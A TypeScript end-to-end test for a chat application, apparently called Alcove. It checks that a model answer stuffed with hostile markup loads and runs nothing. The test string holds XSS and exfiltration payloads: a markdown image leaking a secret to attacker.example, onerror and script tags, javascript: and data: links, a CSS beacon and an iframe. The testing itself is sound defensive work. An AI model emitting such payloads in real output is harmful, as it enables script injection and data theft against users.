import { beforeAll, expect, test } from 'vitest';
import { ask, logIn } from './journey-steps.ts';
import { openPage } from './open-page.ts';
import { type SharedApp, sharedAppWithCloud } from './start-app.ts';

const HOSTILE = `Look:

![a secret in the address](https://attacker.example/pixel.png?leak=secret)

<img src="https://attacker.example/raw.png" onerror="window.wasRun = true"><script>window.wasRun = true</script>

[press me](javascript:window.wasRun=true) [or me](data:text/html,<script>1</script>)

<style>body{background:url(https://attacker.example/style.png)}</style>

<iframe src="https://attacker.example/frame"></iframe>

[an honest link](https://example.org/page)

The end.`;

let app: SharedApp;
beforeAll(async () => {
  ({ app } = await sharedAppWithCloud(() => HOSTILE));
});

test('an answer that tries to load, run or lure loads nothing, runs nothing, and keeps honest links only', async () => {
  const { page, screenshot, close } = await openPage();
  await logIn(page, app, await app.register());
  await ask(page, 'What is the capital of Portugal?');
  const answer = page.getByRole('article', { name: 'Alcove' });
  await answer.getByText('The end.').waitFor();
  expect(await answer.locator('img, script, style, iframe').count()).toBe(0);
  const targets = await answer
    .getByRole('link')
    .evaluateAll((links) => links.map((link) => [link.getAttribute('href'), link.getAttribute('rel')]));
  expect(targets).toEqual([
    ['https://attacker.example/pixel.png?leak=secret', 'noopener noreferrer'],
    ['https://example.org/page', 'noopener noreferrer'],
  ]);
  expect(await page.evaluate('window.wasRun')).toBeUndefined();
  await screenshot('hostile-answer');
  // Fails when anything but this machine was asked for anything.
  await close();
});
